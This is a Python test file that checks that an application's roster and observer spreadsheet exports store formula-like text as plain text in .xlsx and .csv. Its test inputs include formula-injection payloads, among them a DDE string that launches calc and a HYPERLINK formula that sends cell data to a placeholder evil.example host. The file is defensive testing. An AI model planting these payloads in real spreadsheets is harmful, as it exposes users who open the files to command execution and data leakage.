"""Formula injection (issue #12, point 5): text that starts like a formula is exported as text and read back
unchanged, in .xlsx and .csv, by the roster and the observers' exports."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook

from handlers.observers import observation
from handlers.observers.export import export_xlsx
from handlers.roster import read_roster, write_roster
from handlers.roster import texts as T
from handlers.spreadsheets import csv_text, csv_value, from_csv_text
from tests.observers.conftest import CFG, NOW, full_form, make_meeting
from tests.observers.conftest import world as world  # noqa: F401 - a fixture, used by name

HOSTILE = [
    '=HYPERLINK("http://x","y")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
    "''+twice",
]
BENIGN = ["", "王建国", "+86 138 0000 0000", "'plain", "'", "1+1", "a=b", "x-", "13900000001"]


@pytest.mark.parametrize("text", HOSTILE + BENIGN)
def test_the_csv_quote_is_added_where_a_formula_would_start_and_taken_off_again(text):
    field = csv_text(text)
    assert from_csv_text(field) == text
    assert not field[:1] or field[0] not in "=+-@\t\r"
    if text in BENIGN and not text.startswith("+"):
        assert field == text  # ordinary text is left alone


def test_numbers_stay_numbers_in_csv():
    from decimal import Decimal

    assert csv_value(-2) == "-2" and csv_value(Decimal("-3.50")) == "-3.50" and csv_value(None) == ""
    assert csv_value("-2") == "'-2"  # but text that looks like a negative number is quoted (and comes back)


def _sheet_xml(path, part="xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(part).decode()


def _rows(names: list[str]) -> list[dict[str, object]]:
    return [
        {
            T.COMMITTEE: "城关镇党委",
            T.BRANCH: "东风村党支部",
            T.NAME: name,
            T.PHONE: "+86 139 0000 0005",
            T.EXEMPT: name,
            T.ROLES: name,
            T.DINGTALK: name,
            T.FEE_BASE: -2,  # a number is written as a number, never quoted
        }
        for name in names
    ]


def test_roster_xlsx_holds_formula_like_text_as_string_cells_and_reads_it_back(tmp_path):
    path = tmp_path / "r.xlsx"
    write_roster(path, _rows(HOSTILE))
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    ws = load_workbook(path)[T.SHEET_ROSTER]
    name_col = T.HEADERS.index(T.NAME) + 1

    # A carriage return comes back as a line feed through Python's XML parser and as itself through
    # lxml's (openpyxl uses lxml when it is installed: python-docx brings it); the import strips both.
    def same(a: str, b: str) -> bool:
        return a.replace("\r", "\n") == b.replace("\r", "\n")

    for r, text in enumerate(HOSTILE, start=2):
        cell = ws.cell(row=r, column=name_col)
        assert cell.data_type == "s" and same(cell.value, text)
        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r"))
    _, rows = read_roster(path)
    for row, text in zip(rows, HOSTILE, strict=True):
        for column in (T.NAME, T.EXEMPT, T.ROLES, T.DINGTALK):
            assert same(row.cells[column], text)
        assert row.cells[T.PHONE] == "+86 139 0000 0005" and row.cells[T.FEE_BASE] == -2


def test_roster_csv_quotes_formula_like_text_and_reads_it_back(tmp_path):
    path = tmp_path / "r.csv"
    write_roster(path, _rows(HOSTILE))
    with path.open(encoding="utf-8-sig", newline="") as f:
        raw = list(csv.reader(f))
    name_col, base_col = T.HEADERS.index(T.NAME), T.HEADERS.index(T.FEE_BASE)
    for line in raw[1:]:
        assert line[name_col][:1] not in tuple("=+-@\t\r")  # Excel opens every one of them as text
        assert line[T.HEADERS.index(T.PHONE)] == "'+86 139 0000 0005"
        assert line[base_col] == "-2"
    assert raw[1][name_col] == '\'=HYPERLINK("http://x","y")'
    _, rows = read_roster(path)
    for row, text in zip(rows, HOSTILE, strict=True):
        for column in (T.NAME, T.EXEMPT, T.ROLES, T.DINGTALK):
            assert row.cells[column] == text
        assert row.cells[T.PHONE] == "+86 139 0000 0005" and row.cells[T.FEE_BASE] == "-2"


def test_the_observers_export_writes_titles_and_names_as_text(session, world):
    held = make_meeting(session, world, NOW - timedelta(days=1))
    held.title = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    world.observer.name = "@SUM(A1)"
    world.org.branch.name = "+城关社区党支部"
    observation.submit_observation(session, world.observer, held.id, full_form(), now=NOW, cfg=CFG)
    session.commit()
    data = export_xlsx(
        session,
        2026,
        now=NOW + timedelta(days=30),
        cfg=CFG,
        observer_ids=[world.observer.id],
        coverage_within=None,
    )
    with zipfile.ZipFile(BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if re.match(r"xl/worksheets/sheet\d+\.xml", n)]
    assert len(sheets) == 3 and all("<f>" not in xml and "<f " not in xml for xml in sheets)
    wb = load_workbook(BytesIO(data))
    record = wb["观察员年度统计"][2]
    assert record[0].value == "@SUM(A1)" and record[0].data_type == "s"
    assert record[2].value == "+城关社区党支部" and record[2].data_type == "s"
    form = wb["评价表明细"][2]
    assert [c.value for c in form[:3]] == ["@SUM(A1)", "+城关社区党支部", held.title]
    assert all(c.data_type == "s" and c.quotePrefix for c in form[:3])
    assert form[4].value == 88 and form[4].data_type == "n"  # numbers stay numbers
    branches = [row for row in wb["支部列席情况"].iter_rows(min_row=2) if row[1].value == "+城关社区党支部"]
    assert branches and all(
        r[1].data_type == "s" and r[1].quotePrefix and r[2].value == "@SUM(A1)" for r in branches
    )
